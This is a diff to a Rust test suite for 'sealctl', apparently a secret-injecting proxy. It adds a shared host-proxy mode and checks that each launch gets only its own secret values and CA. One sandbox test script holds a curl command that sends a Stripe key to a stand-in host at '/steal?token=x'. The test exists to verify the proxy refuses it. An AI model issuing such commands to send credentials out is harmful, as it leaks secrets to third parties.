@@ -139,6 +139,39 @@ fn rev(auth: &str) -> String {
     format!("reversed:{}", auth.chars().rev().collect::<String>())
 }
 
+/// Starts `sealctl ARGS` (a proxy) and reads its stderr up to the line
+/// starting with `ready`: the process, the rest of that line, and the
+/// lines that follow.
+fn start_until(
+    env: &StoreDir,
+    args: &[String],
+    ready: &str,
+) -> (ProxyProc, String, std::sync::mpsc::Receiver<String>) {
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let mut child = ProxyProc(
+        env.cmd(&args)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    let mut err = BufReader::new(child.0.stderr.take().unwrap());
+    let mut line = String::new();
+    loop {
+        line.clear();
+        assert!(err.read_line(&mut line).unwrap() > 0, "{args:?} exited");
+        if let Some(rest) = line.strip_prefix(ready) {
+            let (tx, rx) = std::sync::mpsc::channel();
+            std::thread::spawn(move || {
+                for l in err.lines().map_while(Result::ok) {
+                    let _ = tx.send(l);
+                }
+            });
+            return (child, rest.trim().to_owned(), rx);
+        }
+    }
+}
+
 /// `sealctl proxy` for the part in `p`/`pk`, once it listens.
 fn proxy(env: &StoreDir, up: &Upstream, hosts: &[&str]) -> (ProxyProc, String) {
     let mut args = vec![
@@ -160,25 +193,64 @@ fn proxy(env: &StoreDir, up: &Upstream, hosts: &[&str]) -> (ProxyProc, String) {
             format!("{h}:{}:127.0.0.1", up.port),
         ]);
     }
-    let args: Vec<&str> = args.iter().map(String::as_str).collect();
-    let mut child = ProxyProc(
-        env.cmd(&args)
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap(),
-    );
-    let mut err = BufReader::new(child.0.stderr.take().unwrap());
-    let mut line = String::new();
-    loop {
-        line.clear();
-        assert!(err.read_line(&mut line).unwrap() > 0, "proxy exited");
-        if let Some(rest) = line.strip_prefix("sealctl proxy: listening on ") {
-            let addr = rest.split_whitespace().next().unwrap().to_owned();
-            std::thread::spawn(move || for _ in err.lines() {});
-            return (child, addr);
-        }
+    let (child, rest, _) = start_until(env, &args, "sealctl proxy: listening on ");
+    (child, rest.split_whitespace().next().unwrap().to_owned())
+}
+
+/// The host's proxy (`sealctl proxy --control`), once it takes launches:
+/// the process and its control socket.
+fn host_proxy(
+    env: &StoreDir,
+    up: &Upstream,
+    hosts: &[&str],
+) -> (
+    ProxyProc,
+    std::path::PathBuf,
+    std::sync::mpsc::Receiver<String>,
+) {
+    let control = env.path("proxy.sock");
+    let mut args = vec![
+        "proxy".to_owned(),
+        "--control".into(),
+        control.display().to_string(),
+        "--proxy-upstream-ca".into(),
+        up.ca.display().to_string(),
+    ];
+    for h in hosts {
+        args.extend([
+            "--proxy-resolve".into(),
+            format!("{h}:{}:127.0.0.1", up.port),
+        ]);
     }
+    let (child, _, said) = start_until(env, &args, "sealctl proxy: taking launches on ");
+    (child, control, said)
+}
+
+/// `sealctl proxy --attach`: a launch handed to the host's proxy, once it
+/// is served; its stdout carries the launch's audit records.
+fn attach(
+    env: &StoreDir,
+    control: &std::path::Path,
+    part: &str,
+    key: &str,
+    ca: &str,
+) -> (ProxyProc, String) {
+    let args = [
+        "proxy",
+        "--attach",
+        control.to_str().unwrap(),
+        "--bundle",
+        part,
+        "--key-file",
+        key,
+        "--listen",
+        "127.0.0.1:0",
+        "--ca-out",
+        ca,
+    ]
+    .map(String::from);
+    let (child, rest, _) = start_until(env, &args, "sealctl proxy: launch handed to ");
+    (child, rest.rsplit(" on ").next().unwrap().to_owned())
 }
 
 /// curl through the proxy, trusting the launch's CA.
@@ -494,11 +566,28 @@ print(t.recv(1024).decode())
 #[test]
 fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
     let env = StoreDir::new();
-    env.create(&["acme/api"]);
     let up = upstream(&env, &["api.stripe.test", "other.test"]);
+    sandbox_case(&env, &up, &[]);
+}
+
+/// The same, with the launch handed to the host's proxy (one process for
+/// every launch of the host): the same answers, the same audit trail.
+#[test]
+fn sealctl_run_sandbox_hands_its_launch_to_the_hosts_proxy() {
+    let env = StoreDir::new();
+    let up = upstream(&env, &["api.stripe.test", "other.test"]);
+    let (_host, control, _) = host_proxy(&env, &up, &["api.stripe.test", "other.test"]);
+    sandbox_case(&env, &up, &["--proxy-control", control.to_str().unwrap()]);
+}
+
+/// `sealctl run --sandbox` with a proxy secret: curl, Python's urllib and
+/// requests inside reach the bound upstream with the value; the sandbox
+/// holds only the placeholder and cannot reach upstreams directly.
+fn sandbox_case(env: &StoreDir, up: &Upstream, extra: &[&str]) {
+    env.create(&["acme/api"]);
     let stripe = "sk_test_51Sandbox0123456789abcdefXYZ";
     let bound = format!("api.stripe.test:{}", up.port);
-    set_proxy_secret(&env, "acme/api", &bound, stripe.as_bytes());
+    set_proxy_secret(env, "acme/api", &bound, stripe.as_bytes());
     let url = format!("https://api.stripe.test:{}/v1/charges", up.port);
     let port = up.port;
     let script = format!(
@@ -510,34 +599,37 @@ fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
          echo; echo refused:
          curl -sS -H \"Authorization: Bearer $STRIPE_KEY\" 'https://other.test:{port}/steal?token=x'
          echo; echo python:
-         python3 -c 'import os,urllib.request; print(urllib.request.urlopen(urllib.request.Request(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}})).read().decode())'"
+         python3 -c 'import os,urllib.request; print(urllib.request.urlopen(urllib.request.Request(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}})).read().decode())'
+         echo; echo requests:
+         python3 -c 'import os,requests; print(requests.post(\"{url}\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"STRIPE_KEY\"]}}, data=b\"amount=1\").text)'"
     );
     let resolve = format!("api.stripe.test:{}:127.0.0.1", up.port);
     let other = format!("other.test:{}:127.0.0.1", up.port);
-    let o = env.run(
-        &[
-            "run",
-            "--repo",
-            "acme/api",
-            "--sandbox",
-            "--proxy-resolve",
-            &resolve,
-            "--proxy-resolve",
-            &other,
-            "--proxy-upstream-ca",
-            up.ca.to_str().unwrap(),
-            "--",
-            "sh",
-            "-c",
-            &script,
-        ],
-        None,
-    );
+    let mut args = vec![
+        "run",
+        "--repo",
+        "acme/api",
+        "--sandbox",
+        "--proxy-resolve",
+        &resolve,
+        "--proxy-resolve",
+        &other,
+        "--proxy-upstream-ca",
+        up.ca.to_str().unwrap(),
+    ];
+    args.extend_from_slice(extra);
+    args.extend(["--", "sh", "-c", &script]);
+    let o = env.run(&args, None);
     let out = stdout(&o);
     assert!(o.status.success(), "{out}{}", stderr(&o));
     let (through, rest) = out.split_once("direct:").unwrap();
     let (direct, rest) = rest.split_once("refused:").unwrap();
-    let (refused, python) = rest.split_once("python:").unwrap();
+    let (refused, rest) = rest.split_once("python:").unwrap();
+    let (python, requests) = rest.split_once("requests:").unwrap();
+    assert!(
+        requests.contains(&rev(&format!("Bearer {stripe}"))) && requests.contains("amount=1"),
+        "{requests}"
+    );
     assert!(
         refused.contains("STRIPE_KEY") && refused.contains("other.test"),
         "{refused}"
@@ -570,7 +662,7 @@ fn sealctl_run_sandbox_reaches_upstreams_only_through_the_proxy() {
     };
     assert_eq!(
         (outcome("substituted"), outcome("refused")),
-        (2, 1),
+        (3, 1),
         "{records:?}"
     );
     let refused = egress
@@ -841,5 +933,125 @@ fn the_egress_policy_decides_requests_without_secrets() {
         stdout(&o).contains("egress policy does not allow other.test"),
         "{}",
         stdout(&o)
+    );
+}
+
+/// One host proxy serves many launches (`sealctl proxy --control`), each on
+/// its own listener with its own CA and values: a launch never gets
+/// another's value, and ends (its listener closed) when its launcher goes.
+#[test]
+fn one_host_proxy_serves_launches_each_with_only_its_own_values() {
+    let env = StoreDir::new();
+    env.create(&["acme/one", "acme/two"]);
+    let up = upstream(&env, &["api.stripe.test"]);
+    let bound = format!("api.stripe.test:{}", up.port);
+    let values = [
+        "sk_test_51HostOne0123456789abcdef",
+        "sk_test_51HostTwo0123456789abcdef",
+    ];
+    let (_host, control, said) = host_proxy(&env, &up, &["api.stripe.test"]);
+    let mut launches = Vec::new();
+    for (i, (repo, value)) in ["acme/one", "acme/two"].iter().zip(values).enumerate() {
+        set_proxy_secret(&env, repo, &bound, value.as_bytes());
+        let (b, k, p, pk) = (
+            format!("b{i}"),
+            format!("k{i}"),
+            format!("p{i}"),
+            format!("pk{i}"),
+        );
+        ok(&env.run(
+            &[
+                "seal",
+                "--repo",
+                repo,
+                "--out",
+                &b,
+                "--key-out",
+                &k,
+                "--proxy-out",
+                &p,
+                "--proxy-key-out",
+                &pk,
+            ],
+            None,
+        ));
+        let o = Command::new(workspace_bin("sealinit"))
+            .args(["--bundle", env.path(&b).to_str().unwrap()])
+            .args([
+                "--key-file",
+                env.path(&k).to_str().unwrap(),
+                "printenv",
+                "STRIPE_KEY",
+            ])
+            .output()
+            .unwrap();
+        let placeholder = stdout(&o).trim().to_owned();
+        let ca = format!("ca{i}.pem");
+        let (proc_, addr) = attach(&env, &control, &p, &pk, &ca);
+        launches.push((proc_, addr, placeholder, ca));
+    }
+    let curl_via = |addr: &str, ca: &str, placeholder: &str| {
+        let o = Command::new("curl")
+            .args(["-sS", "--proxy", &format!("http://{addr}"), "--cacert"])
+            .arg(env.path(ca))
+            .args(["-H", &format!("Authorization: Bearer {placeholder}")])
+            .arg(format!("https://api.stripe.test:{}/v1", up.port))
+            .output()
+            .unwrap();
+        (o.status.code(), stdout(&o))
+    };
+    for (i, (_, addr, placeholder, ca)) in launches.iter().enumerate() {
+        let (code, body) = curl_via(addr, ca, placeholder);
+        assert_eq!(code, Some(0), "{body}");
+        assert!(
+            body.contains(&rev(&format!("Bearer {}", values[i]))),
+            "{body}"
+        );
+        // Another launch's placeholder through this launch's listener is
+        // not one of its own: it is not replaced by anything.
+        let other = &launches[1 - i].2;
+        let (_, body) = curl_via(addr, ca, other);
+        assert!(
+            !body.contains(values[1 - i]) && !body.contains(values[i]),
+            "{body}"
+        );
+        // Each launch has its own CA: the other's does not verify it.
+        let (code, _) = curl_via(addr, &launches[1 - i].3, placeholder);
+        assert_ne!(code, Some(0));
+    }
+    let log = fs::read_to_string(&up.log).unwrap();
+    assert_eq!(log.matches(values[0]).count(), 1, "{log}");
+    assert_eq!(log.matches(values[1]).count(), 1, "{log}");
+    // The first launcher ends: its launch is gone (its listener closed),
+    // its records were on its stdout; the second launch still works.
+    let (mut first, addr0, placeholder0, ca0) = launches.remove(0);
+    first.0.kill().unwrap();
+    let mut records = String::new();
+    std::io::Read::read_to_string(&mut first.0.stdout.take().unwrap(), &mut records).unwrap();
+    first.0.wait().unwrap();
+    let records: Vec<serde_json::Value> = records
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(
+        records.iter().any(|r| r["outcome"] == "substituted"
+            && r["secrets"] == serde_json::json!(["STRIPE_KEY"])
+            && r["path"] == "/v1"),
+        "{records:?}"
+    );
+    assert!(!format!("{records:?}").contains(values[0]));
+    let ended = said
+        .iter()
+        .any(|l| l.contains("launch acme/one") && l.contains("ended"));
+    assert!(ended);
+    let (code, _) = curl_via(&addr0, &ca0, &placeholder0);
+    // 7: curl could not connect.
+    assert_eq!(code, Some(7), "the ended launch's listener still answers");
+    let (_, addr1, placeholder1, ca1) = &launches[0];
+    let (code, body) = curl_via(addr1, ca1, placeholder1);
+    assert_eq!(code, Some(0));
+    assert!(
+        body.contains(&rev(&format!("Bearer {}", values[1]))),
+        "{body}"
     );
 }
